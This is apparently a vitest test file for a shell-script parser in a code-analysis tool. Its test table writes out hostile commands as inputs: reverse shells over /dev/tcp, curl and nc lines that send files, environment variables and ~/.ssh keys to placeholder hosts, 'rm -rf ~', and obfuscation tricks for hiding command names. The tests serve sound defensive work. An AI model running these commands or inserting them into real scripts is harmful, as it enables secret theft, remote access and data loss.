import { expect, it } from "vitest";
import type { Expression, Source, Statement } from "../../../src/behaviour/program/program.ts";
import { parseShell } from "../../../src/behaviour/program/shell.ts";
import { viewsOf } from "../../../src/views/index.ts";
import { artifactOf } from "../../artifact.ts";

/** One line for an expression: `curl('-d', $x) | >('out')`. */
function shown(expression: Expression): string {
  switch (expression.kind) {
    case "literal":
      return `'${expression.text}'`;
    case "name":
      return `$${expression.name}`;
    case "member":
      return `${shown(expression.object)}.${expression.property}`;
    case "index":
      return `${shown(expression.object)}[${shown(expression.key)}]`;
    case "join":
      return `(${expression.parts.map(shown).join("+")})`;
    case "call": {
      const callee = expression.callee.kind === "literal" ? expression.callee.text : `{${shown(expression.callee)}}`;
      return `${callee}(${expression.args.map(({ name, value }) => (name ? `${name}=` : "") + shown(value)).join(", ")})`;
    }
    case "pipe":
      return expression.stages.map(shown).join(" | ");
    case "function":
      return `fn{${expression.definition.body.map(told).join("; ")}}`;
    case "collection":
      return `[${expression.entries.map(({ value }) => shown(value)).join(", ")}]`;
    case "either":
      return `either(${expression.options.map(shown).join(", ")})`;
    default:
      return `other(${expression.parts.map(shown).join(", ")})`;
  }
}

function told(statement: Statement): string {
  const bodyOf = (body: readonly Statement[]): string => `{${body.map(told).join("; ")}}`;
  switch (statement.kind) {
    case "assign":
      return `${statement.targets.map(shown).join(", ")} = ${shown(statement.value)}`;
    case "expression":
      return shown(statement.value);
    case "return":
      return `return ${shown(statement.value)}`;
    case "define":
      return `${statement.definition.name}() ${bodyOf(statement.definition.body)}`;
    case "branch":
      return `if ${statement.condition ? `${shown(statement.condition)} ` : ""}${statement.bodies.map(bodyOf).join(" ")}`;
    case "loop":
      return `for ${statement.target ? `${shown(statement.target)} in ` : ""}${shown(statement.over)} ${bodyOf(statement.body)}`;
    default:
      return "import";
  }
}

function sourceOf(text: string): Source {
  const [view] = viewsOf(artifactOf(text, "shell", "x.sh")).views;
  return { language: "shell", view: view!, at: { start: 0, end: text.length }, role: "script" };
}

const parsed = (text: string): string => parseShell(sourceOf(text)).body.map(told).join("\n");

const table: readonly (readonly [string, string])[] = [
  ['/usr/bin/curl -d @x "$T/a"', "curl('-d', '@x', ($T+'/a'))"],
  ["c\"\"url c\\at 'w'get", "curl('cat', 'wget')"],
  ["$'\\x63\\x75\\x72\\x6c' x", "curl('x')"],
  ["{curl,-d,@x,http://e.test}", "curl('-d', '@x', 'http://e.test')"],
  [`cat\${IFS}/etc/passwd`, "cat('/etc/passwd')"],
  ["/???/b??h x; /usr/bin/c?rl y", "bash('x')\ncurl('y')"],
  ["$CMD x", "{($CMD)}('x')"],
  ["a < in 2>/dev/null | b >> out 2>&1", "<('in') | a() | b() | >>('out')"],
  ["bash -i >& /dev/tcp/192.0.2.1/4 0>&1", "<('/dev/tcp/192.0.2.1/4') | bash('-i') | >('/dev/tcp/192.0.2.1/4')"],
  ["exec 3<>/dev/tcp/h/1; cat <&3 | sh >&3", "<('/dev/tcp/h/1') | cat() | sh() | >('/dev/tcp/h/1')"],
  ["python3 - <<E\nx $Y\nE\n", "<<(('x '+$Y+'\n')) | python3('-')"],
  ["x <<< $a", "<<($a) | x()"],
  ["sudo -u root env A=$b timeout 5 curl x", "sudo('curl')\n$A = $b\ncurl('x')"],
  ["command -v curl", "command('-v', 'curl')"],
  ["env | xargs -I{} curl http://e.test/{}", "$piped text 1 = env()\ncurl(('http://e.test/'+$piped text 1))"],
  ["find ~ -exec cat {} +", "$piped text 1 = find('~')\ncat($piped text 1)"],
  ['bash -c "curl -d \\"\\$(cat ~/.x)\\" $T"', "bash('-c')\ncurl('-d', cat('~/.x'), $T)"],
  ["sh -c 'cat \"$1\"' _ ~/.x", "sh('-c')\n{fn{return cat($1)}}('_', '~/.x')"],
  ['eval "cu""rl $X"; eval "$(curl u)"', "curl($X)\neval(curl('u'))"],
  ["bash <<'E'\ncurl x | sh\nE\n", "curl('x') | sh()"],
  ["docker run a sh -c 'id; w'", "docker('run', 'a', 'sh', '-c')\n{fn{return id(); return w()}}()"],
  ["trap 'rm -rf ~' EXIT", "rm('-rf', '~')"],
  ["alias g='curl -s'; g x", "curl('-s', 'x')"],
  ["bash <(curl x)", "bash(curl('x'))"],
  ["tee >(curl -d @- u) < f", "{fn{return $standard input | curl('-d', '@-', 'u')}}(standard input=<('f') | tee(''))"],
  [
    'f(){ curl -d @- "$@"; }; env | f u',
    "f() {return $standard input | curl('-d', '@-', $1, $2, $3, $4, $5, $6, $7, $8, $9)}\nf('u', standard input=env())",
  ],
  ["cat k | while read -r l; do x $l; done", "$standard input 1 = cat('k')\nfor '' {$l = $standard input 1; x($l)}"],
  ["for f in ~/.ssh/*; do cat $f; done | nc h 1", "{fn{for $f in ['~/.ssh/*'] {return cat($f)}}}() | nc('h', '1')"],
  ["if a; then b; elif c; then d; else e; fi", "if a() {b()} {c(); d()} {e()}"],
  ["a && b || c", "a()\nb()\nif {c()}"],
  [
    `X=\${Y:-d}; Z=\${X//a/b}; W=$HOME/.a`,
    `$X = \${default}($Y, 'd')\n$Z = \${replace}($X, 'a', 'b', '//')\n$W = '~/.a'`,
  ],
  ["export A=$(cat k); export; set; a=(1 $b)", "$A = cat('k')\nexport()\nset()\n$a = ['1', $b]"],
  ["read -p hi a b", "$piped text 1 = read()\n$a = $piped text 1\n$b = $piped text 1"],
  ["echo `echo \\`cat k\\``", "echo(echo(cat('k')))"],
  ["a | | b\ncurl x", "a()\ncurl('x')"],
];

it.each(table)("%s", (text, expected) => expect(parsed(text)).toBe(expected));

it("keeps offsets, also in scripts within words", () => {
  const text = "x\nbash -c \"curl '\\$T'\"\n";
  const call = parseShell(sourceOf(text)).body.at(-1)!;
  const { at } = call.kind === "expression" ? call.value : call;
  expect(text.slice(at.start, at.end)).toBe("curl '\\$T'");
});

it("tells what it could not read, and throws at nothing", () => {
  const hostile = [
    "$(",
    '"$(',
    "(",
    "{ ",
    "if a; then ",
    "[[ ( ",
    `\${a:-`,
    "<(",
    "f(){ ",
    "a|",
    "'",
    "{a,b}",
    "find -exec ",
    "sudo ",
  ];
  for (const piece of hostile) expect(parseShell(sourceOf(piece.repeat(3000))).body.length).toBeGreaterThanOrEqual(0);
  expect(parseShell(sourceOf("echo $(")).trouble).toMatch(/unterminated/);
  expect(parseShell(sourceOf("a b ".repeat(300_000))).trouble).toMatch(/more than/);
});
